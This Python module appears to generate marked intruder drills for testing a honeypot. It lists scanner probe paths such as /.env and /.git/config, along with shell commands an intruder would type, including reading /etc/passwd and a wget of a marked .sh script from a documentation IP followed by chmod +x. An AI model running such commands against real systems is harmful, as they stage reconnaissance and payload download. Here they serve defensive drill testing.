# SPDX-License-Identifier: MIT
"""What a drill does: commands and requests of an ordinary intruder, marked so that drills can be distinguished."""

import ipaddress
import secrets

import msgspec

MARK_LENGTH = 8
SCANNER = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
SCANNED_PATHS = ("/", "/.env", "/.git/config", "/wp-login.php", "/cgi-bin/luci", "/admin/", "/phpinfo.php")
BROWSED_PATHS = ("/", "/favicon.ico", "/robots.txt")

EXPECTED_TECHNIQUES = frozenset({"T1082", "T1105", "T1595.002"})
"""System information discovery, ingress tool transfer, vulnerability scanning: certain to be done."""

_SOURCES = ipaddress.ip_network("127.66.0.0/16")


class Script(msgspec.Struct, frozen=True):
    """One drill: its source address and the mark in its texts."""

    source: str
    mark: str

    @property
    def wrong_passwords(self) -> tuple[str, ...]:
        """Passwords that no decky accepts."""
        return f"{self.mark}-1", f"{self.mark}-2"

    @property
    def commands(self) -> tuple[str, ...]:
        """A dozen command lines for a shell; nothing of it is executed anywhere."""
        return (
            "uname -a",
            "id",
            "w",
            "cat /etc/passwd | head -3",
            "ps aux | head -5",
            "ls -la /root",
            "cd /tmp",
            f"wget http://198.51.100.23/{self.mark}.sh",  # TEST-NET-2, RFC 5737: nobody's address
            f"chmod +x {self.mark}.sh",
            "crontab -l",
            f"echo {self.mark}",
            "history",
        )


def new_script() -> Script:
    """Return a script with a source address and a mark of its own."""
    address = _SOURCES[secrets.randbelow(_SOURCES.num_addresses - 2) + 1]
    return Script(str(address), f"drill{secrets.token_hex(MARK_LENGTH // 2)}")
